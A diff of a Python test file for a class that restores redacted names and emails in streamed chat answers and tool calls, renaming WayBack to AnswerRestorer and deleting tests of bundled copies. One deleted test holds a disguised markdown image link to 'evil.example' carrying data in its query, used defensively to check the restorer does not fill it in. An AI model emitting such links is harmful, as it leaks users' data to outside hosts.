@@ -2,16 +2,13 @@
 
 from __future__ import annotations
 
-import ast
 import json
 import random
-import sys
 from typing import Any
 
 import pytest
 
-from integrations.way_back import WayBack
-from scripts.bundle_restoring import BEGIN, END, TARGETS, place
+from integrations.answer_restorer import AnswerRestorer
 
 NAME, MAIL = 'Ann "Al" Ek', "ann@example.com"
 TEXT = "Dear Films Pair, is maybe@site.net yours? Films Pairs: https://x.example/?q=Films%20Pair"
@@ -38,7 +35,9 @@ def cut(text: str, draw: random.Random) -> list[str]:
     return pieces
 
 
-def stream(back: WayBack, steps: list[dict[str, Any]]) -> tuple[str, dict[int, tuple[str, str]]]:
+def stream(
+    back: AnswerRestorer, steps: list[dict[str, Any]]
+) -> tuple[str, dict[int, tuple[str, str]]]:
     """Restore the deltas of one choice; return its text, and the name and arguments of calls."""
     text, calls = "", dict[int, tuple[str, str]]()
     for i, delta in enumerate(steps):
@@ -58,14 +57,14 @@ def stream(back: WayBack, steps: list[dict[str, Any]]) -> tuple[str, dict[int, t
 
 def test_a_text_is_restored_however_it_is_cut() -> None:
     draw = random.Random(1)
-    assert WayBack(done()).restore_content(TEXT) == RESTORED
+    assert AnswerRestorer(done()).restore_content(TEXT) == RESTORED
     for _ in range(200):
         steps = [{"content": piece} for piece in cut(TEXT, draw)]
-        assert stream(WayBack(done()), steps)[0] == RESTORED
+        assert stream(AnswerRestorer(done()), steps)[0] == RESTORED
 
 
 def test_no_replacement_is_ever_shown_in_part() -> None:
-    back, shown = WayBack(done()), []
+    back, shown = AnswerRestorer(done()), []
     for character in "Dear Films Pair, yes":
         choice = {"index": 0, "delta": {"content": character}}
         back.restore_choice(choice)
@@ -85,14 +84,14 @@ def test_calls_stay_valid_json(ascii_only: bool) -> None:
                 {"tool_calls": [{"index": i, "function": {"arguments": piece}}]}
                 for piece in cut(written, draw)
             )
-        _, calls = stream(WayBack(done()), steps)
+        _, calls = stream(AnswerRestorer(done()), steps)
         for name, arguments in calls.values():
             assert name == "look_up"
             assert json.loads(arguments) == RAW_ARGUMENTS
 
 
 def test_an_answer_in_json_stays_json() -> None:
-    back = WayBack(done(response_format={"type": "json_object"}))
+    back = AnswerRestorer(done(response_format={"type": "json_object"}))
     assert json.loads(back.restore_content(json.dumps(ARGUMENTS))) == RAW_ARGUMENTS
 
 
@@ -102,47 +101,8 @@ def test_messages_are_restored_whole() -> None:
         {"role": "user", "content": [{"type": "text", "text": "Films Pair"}]},
         {"role": "assistant", "content": None, "tool_calls": [{"id": "c", "function": function}]},
     ]
-    user, assistant = WayBack(done()).restore(messages)
+    user, assistant = AnswerRestorer(done()).restore(messages)
     assert user["content"][0]["text"] == NAME
     (call,) = assistant["tool_calls"]
     assert call["function"]["name"] == "look_up"
     assert json.loads(call["function"]["arguments"]) == RAW_ARGUMENTS
-
-
-@pytest.mark.parametrize("path", TARGETS, ids=lambda path: path.stem)
-def test_the_files_that_stand_alone_hold_the_same(path: Any) -> None:
-    """`python scripts/bundle_restoring.py` makes them so."""
-    text = path.read_text("utf-8")
-    assert place(text) == text
-    assert text.count("class WayBack") == 1
-
-
-@pytest.mark.parametrize("path", TARGETS, ids=lambda path: path.stem)
-def test_the_copies_work_with_what_their_files_import(path: Any) -> None:
-    """The programs that load the files are not installed here: their own parts are left out."""
-    text = path.read_text("utf-8")
-    head = [
-        ast.unparse(node)
-        for node in ast.parse(text).body
-        if isinstance(node, ast.Import | ast.ImportFrom)
-        and (getattr(node, "module", None) or node.names[0].name).partition(".")[0]
-        in sys.stdlib_module_names
-    ]
-    copied = text.partition(BEGIN)[2].partition(END)[0]
-    names: dict[str, Any] = {"__name__": __name__}
-    exec("\n".join([*head, copied]), names)
-    back = names["WayBack"](done())
-    assert back.restore_content(TEXT) == RESTORED
-    hidden = "![x][1]\n\n[1]: https:/\\/evil.example/?q=Films&#47;&#47;maybe@site.net"
-    assert back.restore_content(hidden) == hidden
-
-
-@pytest.mark.parametrize("path", TARGETS, ids=lambda path: path.stem)
-def test_no_name_of_a_copy_is_a_name_of_its_file(path: Any) -> None:
-    names = []
-    for node in ast.parse(path.read_text("utf-8")).body:
-        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef):
-            names.append(node.name)
-        elif isinstance(node, ast.Assign):
-            names += [target.id for target in node.targets if isinstance(target, ast.Name)]
-    assert len(names) == len(set(names))
